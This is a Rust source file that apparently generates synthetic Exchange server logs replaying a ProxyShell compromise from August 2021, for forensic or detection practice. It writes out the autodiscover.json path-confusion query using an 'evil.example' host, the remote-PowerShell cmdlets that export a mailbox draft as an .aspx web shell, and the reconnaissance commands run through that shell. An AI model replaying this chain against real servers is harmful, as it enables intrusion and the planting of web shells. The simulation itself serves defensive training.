//! The ProxyShell story (CVE-2021-34473, CVE-2021-34523, CVE-2021-31207): August 2021, a server that stopped at the
//! update of March, a page written by a mailbox export.
//!
//! Order and spelling follow published runs against 15.1.1713.5 (DebugPrivilege/InsightEngineering).

use std::io;

use crate::campaigns::Story;
use crate::exchange_logs::{self, Cmdlet, RemoteRequest, WebService};
use crate::plan::Plan;
use crate::scanners::Noise;
use crate::server::{Agent, Backend, Build, Protocol, Request, Server};
use crate::setting::{Setting, Update};
use crate::shell::{self, SPIDER, Shell};
use crate::time::{DAY, MINUTE, SECOND, Time};
use crate::windows;

pub(super) const STORY: Story = Story {
    name: "proxyshell",
    description: "ProxyShell on 13 August 2021, a web shell by mailbox export, updated on 21 August",
    verdict: "compromised",
    campaign: Some("proxyshell"),
    also: None,
    entry: "vulnerability",
    days: 21,
    bytes_per_day: 430_000,
    setting,
    tell: compromised,
};

fn setting() -> Setting {
    let day = |day| Time::day(2021, 8, day);
    let builds = Build::of_2016((2_176, 9), (2_308, 14));
    let update = Update::Cumulative(day(21).at(1, 20, 0));
    Setting::new((day(12), day(22), day(26)), builds, update, Noise::ProxyShell)
        .installed(Time::day(2021, 1, 16).at(6, 2, 11), "CU19", "15.1.2176.2", "15.1.2106.2")
        .installed(day(21).at(1, 22, 40), "CU21", "15.1.2308.8", "15.1.2176.9")
}

const INTRUDER: &str = "203.0.113.66";
const OPERATOR: &str = "198.51.100.88";
const AGENT: &str =
    "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/92.0.4515.131 Safari/537.36";
/// The shape of a token; it names nobody.
const TOKEN: &str = "VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBVpbmVydEBjb250b3NvLmV4YW1wbGU=";
const VICTIM: &str = "anna.adler@contoso.example";
const DRAFT: &str = "2075506b3d074905b07b9993841d265c";

const SHELL: Shell = Shell {
    url: "/aspnet_client/tkevsn.aspx",
    file: "inetpub/wwwroot/aspnet_client/tkevsn.aspx",
    protocol: None,
    agent: SPIDER,
};

/// Chain on 13 August, commands until 16 August, update on 21 August.
fn compromised(plan: &mut Plan) {
    let probe = Time::day(2021, 8, 12).at(21, 55, 2);
    confused(plan, probe, "/mapi/nspi/", 401);
    plan.tell(probe, format!("{INTRUDER} asks for /mapi/nspi behind autodiscover.json, answered 401"));
    let at = Time::day(2021, 8, 13).at(3, 22, 4);
    confused(plan, at, "/autodiscover/autodiscover.xml", 200);
    confused(plan, at.plus(2 * SECOND), "/mapi/nspi/", 200);
    confused(plan, at.plus(4 * SECOND), "/mapi/emsmdb/", 200);
    plan.tell(at, format!("{INTRUDER} reaches the back end through autodiscover.json and learns an account"));
    draft(plan, at.plus(9 * SECOND));
    for (wait, command) in [
        (15, ""),
        (19, "New-ManagementRoleAssignment"),
        (27, "New-MailboxExportRequest"),
        (49, "Remove-MailboxExportRequest"),
    ] {
        remote(plan, at.plus(wait * SECOND), command);
    }
    cmdlets(plan, at);
    plan.step(at.plus(33 * SECOND), |server, at| {
        let image = r"C:\Program Files\Microsoft\Exchange Server\V15\Bin\MSExchangeMailboxReplication.exe";
        windows::file_created(server, at, image, &SHELL.windows_path())
    });
    plan.tell(at.plus(33 * SECOND), format!("the export writes {}", SHELL.windows_path()));
    shell::call(plan, at.plus(58 * SECOND), &SHELL, INTRUDER, None);
    shell::call(plan, at.plus(95 * MINUTE), &SHELL, OPERATOR, Some("\"cmd\" /c whoami"));
    shell::call(plan, at.plus(DAY), &SHELL, OPERATOR, Some("\"cmd\" /c nltest /domain_trusts"));
    shell::call(plan, at.plus(3 * DAY), &SHELL, OPERATOR, Some("\"cmd\" /c tasklist /svc"));
    plan.plant(&format!("C/{}", SHELL.file), shell::mailbox_export());
}

/// What follows the host name: the front end takes it for an address, the back end for a path.
fn query(target: &str) -> String {
    let token = if target.starts_with("/powershell") { format!("X-Rps-CAT={TOKEN}") } else { String::new() };
    format!("@evil.example{target}?{token}&Email=autodiscover/autodiscover.json%3F@evil.example")
}

fn confused(plan: &mut Plan, at: Time, target: &'static str, status: u16) {
    plan.step(at, move |server, at| request(server, at, target, status).map(|_| ()));
}

fn request(server: &mut Server, at: Time, target: &str, status: u16) -> io::Result<crate::random::Guid> {
    let agent = Agent::new(AGENT);
    let account = server.identity.account.clone();
    let query = query(target);
    let behind = if target.starts_with("/powershell") { format!("X-Rps-CAT={TOKEN}") } else { String::new() };
    let sent_on = Backend { stem: target, query: &behind, user: &account };
    let request = Request {
        query: &query,
        client: INTRUDER,
        status,
        authentication: "Anonymous",
        hint: "ExplicitLogon-SMTP",
        bytes: (1_420, 2_905),
        milliseconds: server.random.between(50, 300) as i64,
        backend: (status == 200).then_some(sent_on),
        ..Request::new(Some(Protocol::Autodiscover), "POST", "/autodiscover/autodiscover.json", &agent)
    };
    server.web(at, &request)
}

/// The draft whose text the export will turn into a page.
fn draft(plan: &mut Plan, at: Time) {
    plan.step(at, |server, at| {
        let id = request(server, at, "/ews/exchange.asmx", 200)?;
        let address = server.identity.address.clone();
        let call = WebService {
            id,
            user: r"NT AUTHORITY\SYSTEM",
            agent: AGENT,
            client: &address,
            action: "CreateItem",
            bytes: (4_118, 1_020),
            impersonated: VICTIM,
            acting_as: VICTIM,
            milliseconds: 44,
        };
        exchange_logs::ews(server, at.plus(40), &call)
    });
    plan.tell(at, format!("{INTRUDER} leaves a draft in the mailbox {VICTIM}"));
}

fn remote(plan: &mut Plan, at: Time, command: &'static str) {
    plan.step(at, move |server, at| {
        request(server, at, "/powershell/", 200)?;
        let address = server.identity.address.clone();
        let remote = RemoteRequest {
            user: VICTIM,
            client: &address,
            status: 200,
            command,
            client_info: "Python PSRP Client",
            query: &format!("X-Rps-CAT={TOKEN}&Email=autodiscover/autodiscover.json%3F@evil.example"),
        };
        exchange_logs::rps_http(server, at.plus(60), &remote)
    });
}

fn cmdlets(plan: &mut Plan, at: Time) {
    let export = format!(
        "-Mailbox \"{VICTIM}\" -Name \"{DRAFT}\" -ContentFilter \"Subject -eq '{DRAFT}'\" \
         -FilePath \"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\tkevsn.aspx\""
    );
    let steps = [
        (20, "New-ManagementRoleAssignment", format!("-Role \"Mailbox Import Export\" -User \"{VICTIM}\"")),
        (28, "New-MailboxExportRequest", export),
        (50, "Remove-MailboxExportRequest", "-Confirm \"False\"".to_owned()),
    ];
    for (wait, name, parameters) in steps {
        let at = at.plus(wait * SECOND);
        plan.tell(at, format!("{INTRUDER} runs {name} {parameters}"));
        plan.step(at, move |server, at| {
            let cmdlet = Cmdlet {
                user: "Administrator",
                rid: 500,
                application: "PowerShell",
                sender: VICTIM,
                cmdlet: name,
                parameters: &parameters,
                error: "",
            };
            exchange_logs::rps_cmdlet(server, at, &cmdlet)?;
            windows::cmdlet(server, at.plus(15), name, &parameters)
        });
    }
}
